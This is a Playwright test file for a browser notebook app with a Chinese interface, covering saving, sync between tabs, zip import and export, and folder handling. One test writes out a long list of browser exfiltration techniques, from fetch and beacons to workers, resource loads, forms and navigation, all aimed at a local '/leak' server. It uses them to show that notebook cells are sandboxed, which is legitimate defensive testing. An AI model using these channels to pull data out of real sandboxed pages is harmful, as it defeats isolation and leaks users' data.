import {cp, mkdir, mkdtemp, readdir, readFile, rm, writeFile} from "node:fs/promises";
import {createServer} from "node:http";
import type {AddressInfo} from "node:net";
import {tmpdir} from "node:os";
import {dirname, join, resolve} from "node:path";
import {expect, type Page} from "@playwright/test";
import {startServer} from "../../src/server/start.js";
import {test} from "./hosted.js";
import {card, cardValue, drag, notebookOf} from "./workspace.js";

const target = "半导体光电2025年产值目标";
const share = "新兴产业占地区生产总值比重，2025";

/** Unfolds the list beside the notebook on screen. */
async function showList(page: Page): Promise<void> {
  await page.locator("ty-bar [data-intent=files]").click();
}

/** The flagship, with the list beside it. */
async function begin(page: Page, {address}: {readonly address: string}): Promise<void> {
  await page.goto(`${address}#/changzhi.html`);
  await page.frameLocator("iframe").locator("ty-cell").first().waitFor({state: "attached"});
  await showList(page);
}

async function add(page: Page, name: string, content: string | Buffer): Promise<void> {
  const file = {name, mimeType: "application/octet-stream", buffer: Buffer.from(content)};
  await page.locator("ty-files input[type=file]").setInputFiles(file);
}

const report = (page: Page) => page.locator("ty-files ty-notice");

async function downloaded(page: Page, act: () => Promise<void>): Promise<Buffer> {
  const download = page.waitForEvent("download");
  await act();
  return readFile(await (await download).path());
}

test("the shipped notebooks are there from a dumb server under a path, and live", async ({page, hosted}) => {
  await page.goto(hosted.address);
  await page.locator("ty-files a", {hasText: "几个目标能同时成立"}).click();
  const frame = page.frameLocator("iframe");
  await expect(card(frame, share)).toContainText("12.21");
  const before = await cardValue(frame, share);
  await drag(page, frame, target, 0.3);
  await expect.poll(() => cardValue(frame, share)).toBeGreaterThan(before);
  await showList(page);
  await expect(page.locator("ty-files").getByText("笔记本存放在这个浏览器里")).toBeVisible();
  expect(hosted.complaints).toEqual([]);
  expect(hosted.asked.filter((path) => !path.startsWith("/tuiyan/"))).toEqual([]);
  expect(hosted.asked.filter((path) => path.includes("api"))).toEqual([]);
});

test("what is written stays in the browser, and two tabs do not write over each other", async ({
  page,
  hosted,
  context,
}) => {
  await begin(page, hosted);
  await page.locator("ty-files").getByRole("button", {name: "新建笔记本"}).click();
  await page.getByLabel("标题").fill("两个窗口 🏙️");
  await page.keyboard.press("Enter");
  await page.locator("h1", {hasText: "两个窗口 🏙️"}).waitFor();
  await page.reload();
  const frame = page.frameLocator("iframe");
  await expect(frame.getByRole("heading", {name: "两个窗口 🏙️"})).toBeVisible();
  const other = await context.newPage();
  await other.goto(page.url());
  await expect(other.frameLocator("iframe").getByRole("heading", {name: "两个窗口 🏙️"})).toBeVisible();
  const write = async (tab: Page, text: string) => {
    const cell = tab.frameLocator("iframe").locator("#cell-1");
    await cell.hover();
    await cell.locator(".toggle").click();
    await cell.locator(".cm-content").click();
    await tab.keyboard.press("ControlOrMeta+a");
    await tab.keyboard.insertText(text);
    await tab.keyboard.press("ControlOrMeta+s");
  };
  await write(page, "# 这里");
  await expect(page.locator("ty-save-state")).toContainText("已保存");
  await write(other, "# 那里");
  await expect(other.getByText("文件在别处被改动过，为免互相覆盖，没有保存。")).toBeVisible();
  await other.close();
});

test("a cell reaches nobody: not the network, not the server the site came from, not the workspace", async ({
  page,
  hosted,
}) => {
  const reached: string[] = [];
  const stranger = createServer((request, response) => {
    reached.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((done) => stranger.listen(0, "127.0.0.1", done));
  const away = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}/leak`;
  const own = `${hosted.address}page/page.js?leak`;
  const tries = [away, own].map(
    (url) => `
  fetch("${url}").catch(() => {});
  try { const request = new XMLHttpRequest(); request.open("GET", "${url}"); request.send(); } catch {}
  try { navigator.sendBeacon("${url}", "x"); } catch {}
  try { new WebSocket("${url.replace("http", "ws")}"); } catch {}
  try { new EventSource("${url}"); } catch {}
  import("${url}").catch(() => {});
  try { new Worker(URL.createObjectURL(new Blob(["importScripts('${url}'); fetch('${url}')"]))); } catch {}
  for (const [name, attribute] of [["img", "src"], ["script", "src"], ["iframe", "src"], ["video", "src"], ["embed", "src"], ["object", "data"]])
    document.body.append(Object.assign(document.createElement(name), {[attribute]: "${url}"}));
  for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "icon", "manifest"])
    document.head.append(Object.assign(document.createElement("link"), {rel, href: "${url}", as: "script"}));
  document.head.append(Object.assign(document.createElement("style"), {textContent: "@import '${url}'; body { background: url('${url}') } @font-face { font-family: x; src: url('${url}') } * { font-family: x, serif }"}));
  document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: "<script>fetch('${url}')</scr" + "ipt><img src='${url}'>"}));
  { const form = Object.assign(document.createElement("form"), {action: "${url}"}); document.body.append(form); form.submit(); }
  try { globalThis.open("${url}"); } catch {}
  try { globalThis.parent.location = "${url}"; } catch {}
  try { globalThis.top.location.href = "${url}"; } catch {}`,
  );
  const seen = `
  const seen = [globalThis.origin, typeof globalThis.RTCPeerConnection];
  for (const look of [() => globalThis.localStorage, () => globalThis.parent.document, () => document.cookie, () => globalThis.indexedDB.open("x")])
    try { look(); seen.push("open"); } catch { seen.push("closed"); }
  display(seen.join(" "));`;
  await begin(page, hosted);
  const open = async (title: string, cell: string) => {
    await add(page, `${title}.html`, notebookOf(cell).replace("试验", title));
    await page.locator("ty-files a", {hasText: title}).click();
    await page.getByRole("button", {name: "信任并运行"}).click();
  };
  await open("所见", seen);
  const cell = page.frameLocator("iframe").locator("#cell-1");
  await expect(cell).toContainText("null undefined closed closed closed closed");
  await open("外传", tries.join("\n"));
  await expect.poll(() => hosted.complaints.filter((line) => line.includes("leak")).length).toBeGreaterThan(20);
  // Last, as its page is gone then: to go elsewhere itself.
  const refused = () => hosted.complaints.filter((line) => line.startsWith("Framing")).length;
  const before = refused();
  await open("离开", `globalThis.location.href = "${own}"`);
  await expect.poll(refused).toBeGreaterThan(before);
  await page.waitForTimeout(2000);
  expect(hosted.asked.filter((url) => url.includes("leak"))).toEqual([]);
  expect(reached).toEqual([]);
  expect(new URL(page.url()).pathname).toBe("/tuiyan/");
  stranger.close();
});

test("a link to a place in the notebook leads there, and the page stays", async ({page, hosted}) => {
  const prose = {mode: "text/markdown", text: `[去末尾](#end)\n\n${"行\n\n".repeat(99)}<p id="end">末尾</p>`};
  await begin(page, hosted);
  await add(page, "links.html", notebookOf(prose).replace("试验", "里面的链接"));
  await page.locator("ty-files a", {hasText: "里面的链接"}).click();
  await page.getByRole("button", {name: "信任并运行"}).click();
  const frame = page.frameLocator("iframe");
  await frame.getByRole("link", {name: "去末尾"}).click();
  await expect(frame.getByText("末尾", {exact: true})).toBeInViewport();
  expect(hosted.complaints).toEqual([]);
});

test("everything goes from a folder to the browser and back to a folder, byte for byte", async ({page, hosted}) => {
  const files: Record<string, string> = {
    "长治 🏙️/十四五/计划.html": `\ufeff${notebookOf('FileAttachment("数据/用电.csv").text()').replaceAll("\n", "\r\n")}`,
    "长治 🏙️/十四五/数据/用电.csv": "年,亿kWh\n2020,210\n",
    "b.html": notebookOf("1 + 1"),
  };
  const folder = await mkdtemp(join(tmpdir(), "tuiyan-from-"));
  const empty = await mkdtemp(join(tmpdir(), "tuiyan-to-"));
  const shipped = ["changzhi.html", "changzhi-targets.html"];
  for (const name of shipped) await cp(resolve("notebooks", name), join(folder, name));
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(folder, path)), {recursive: true});
    await writeFile(join(folder, path), text);
  }
  await writeFile(join(folder, "bytes.bin"), Buffer.from(Array.from({length: 5000}, (_, i) => (i * i) % 256)));

  const takeAll = async () => {
    await page.locator("ty-files").getByRole("button", {name: "更多操作"}).first().click();
    return downloaded(page, () => page.getByRole("menuitem", {name: "全部下载"}).click());
  };
  const site = resolve("dist/site");
  const from = await startServer({folder, site, port: 42_000 + Math.floor(Math.random() * 9000), strictPort: false});
  await page.goto(from.address);
  const first = await takeAll();
  await from.close();

  await begin(page, hosted);
  await add(page, "all.zip", first);
  await expect(report(page)).toContainText("添加了 4 个文件。另有 2 个文件已经在这里，内容相同。");
  await page.locator("ty-files a", {hasText: "试验"}).first().click();
  const second = await takeAll();

  const to = await startServer({
    folder: empty,
    site,
    port: 42_000 + Math.floor(Math.random() * 9000),
    strictPort: false,
  });
  await page.goto(to.address);
  await page.locator("ty-files").waitFor();
  await add(page, "all.zip", second);
  await expect(report(page)).toContainText("添加了 6 个文件。");
  await to.close();
  const names = async (of: string) => (await readdir(of, {recursive: true})).sort();
  expect(await names(empty)).toEqual(await names(folder));
  for (const path of [...Object.keys(files), ...shipped, "bytes.bin"])
    expect((await readFile(join(empty, path))).equals(await readFile(join(folder, path))), path).toBe(true);
  await rm(folder, {recursive: true, force: true, maxRetries: 9, retryDelay: 100});
  await rm(empty, {recursive: true, force: true, maxRetries: 9, retryDelay: 100});
});

test("folders are made, renamed, moved, removed and restored by the keyboard, with what is open in them", async ({
  page,
  hosted,
}) => {
  await begin(page, hosted);
  const row = (name: string) => page.locator("ty-files .row", {hasText: name});
  await row("长治").first().press("f");
  await page.getByLabel("文件夹名").fill("规划 🏙️");
  await page.keyboard.press("Enter");
  await row("规划 🏙️").press("f");
  await page.getByLabel("文件夹名").fill("十四五");
  await page.keyboard.press("Enter");
  await expect(report(page)).toContainText("已新建文件夹“规划 🏙️/十四五”。");
  await page.locator("ty-files a.row").first().press("m");
  await page.getByLabel("文件夹", {exact: true}).selectOption("规划 🏙️/十四五");
  await page.keyboard.press("Tab");
  await page.keyboard.press("Enter");
  const hash = () => decodeURIComponent(new URL(page.url()).hash);
  await expect.poll(hash).toBe("#/规划 🏙️/十四五/changzhi.html");
  await row("规划 🏙️").press("F2");
  await page.getByLabel("文件夹名").fill("长治");
  await page.keyboard.press("Enter");
  await expect.poll(hash).toBe("#/长治/十四五/changzhi.html");
  await expect(card(page.frameLocator("iframe"), share)).toContainText("12.21");

  // By the mouse: the folder within goes away with what is on screen, and comes back.
  await row("十四五").first().hover();
  await page.getByRole("button", {name: "“十四五”的操作"}).click();
  await page.getByRole("menuitem", {name: /^移除/}).click();
  await expect(report(page)).toContainText("“十四五”已移除");
  await expect(page.locator("iframe")).toHaveCount(0);
  await page.reload();
  await page.locator("ty-files").getByRole("button", {name: "更多操作"}).first().click();
  await page.getByRole("menuitem", {name: /已移除的笔记本/}).click();
  await page.getByRole("button", {name: /^恢复 十四五/}).click();
  await page.locator("ty-files a.row", {hasText: "几个目标能同时成立"}).click();
  await expect.poll(hash).toBe("#/长治/十四五/changzhi.html");
  await expect(card(page.frameLocator("iframe"), share)).toContainText("12.21");
});

test("what does not belong is refused with a reason, and nothing is lost", async ({page, hosted}) => {
  await begin(page, hosted);
  await add(page, "图.png", Buffer.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0xff));
  await expect(report(page)).toContainText("没有添加“图.png”：它不是文本");
  await add(page, "cut.html", notebookOf("1 + 1").slice(0, 70));
  await expect(report(page)).toContainText("没有添加“cut.html”：文件不完整");
  await add(page, "large.html", "年".repeat(3_000_000));
  await expect(report(page)).toContainText("没有添加“large.html”：笔记本超过 8 MB");
  await add(page, "not.zip", "no archive");
  await expect(report(page)).toContainText("没有添加“not.zip”里的任何文件：它不是完整的 ZIP 文件");
  await expect(page.locator("ty-files a.row")).toHaveCount(2);
});

test("says that the browser keeps nothing for it", async ({page, hosted}) => {
  await page.addInitScript(() => {
    IDBFactory.prototype.open = () => {
      throw new DOMException("denied", "SecurityError");
    };
  });
  await page.goto(hosted.address);
  await expect(page.getByText("浏览器不让这个网站存放数据")).toBeVisible();
});
